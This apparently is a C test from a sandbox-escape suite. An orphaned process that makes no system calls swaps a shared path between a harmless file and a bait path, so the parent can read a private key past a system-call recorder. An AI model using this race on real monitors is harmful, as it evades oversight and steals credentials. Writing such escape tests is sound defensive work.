/* The same by a process that makes no system call the recorder is told of, whose parent crashed
 * before it could end: nobody's exit and nobody's first call shows that there is a second task. */
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>

#include "escape.h"

enum { TRIES = 20000, PATH_SIZE = 32 };

/* In the orphan, for ever: it changes the path back and forth. */
static void swap(volatile char *path)
{
    static const char innocent[PATH_SIZE] = "/home/alex/.bashrc";
    static const char real[PATH_SIZE] = ESCAPE_BAIT;
    for (unsigned round = 0;; round++) {
        for (int i = 0; i < PATH_SIZE; i++)
            path[i] = innocent[i];
        for (volatile unsigned spin = 0; spin < 200 + round % 2000; spin++)
            ;
        for (int i = 0; i < PATH_SIZE; i++)
            path[i] = real[i];
        for (volatile unsigned spin = 0; spin < 200 + round % 1000; spin++)
            ;
    }
}

int main(void)
{
    char text[16] = "";
    int status;
    char *path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (path == MAP_FAILED)
        escape_broken("sharing memory");
    const pid_t child = fork();
    if (child == 0) {
        if (fork() == 0)
            swap(path);
        __builtin_trap();
    }
    if (child < 0 || waitpid(child, &status, 0) != child || !WIFSIGNALED(status))
        escape_broken("making an orphan");
    for (int i = 0; i < TRIES; i++) {
        const int fd = open(path, O_RDONLY);
        if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0 && strncmp(text, "-----BEGIN", 10) == 0)
            escape_end(true, "reading a secret under another name");
        close(fd);
    }
    escape_end(false, "reading a secret under another name");
}
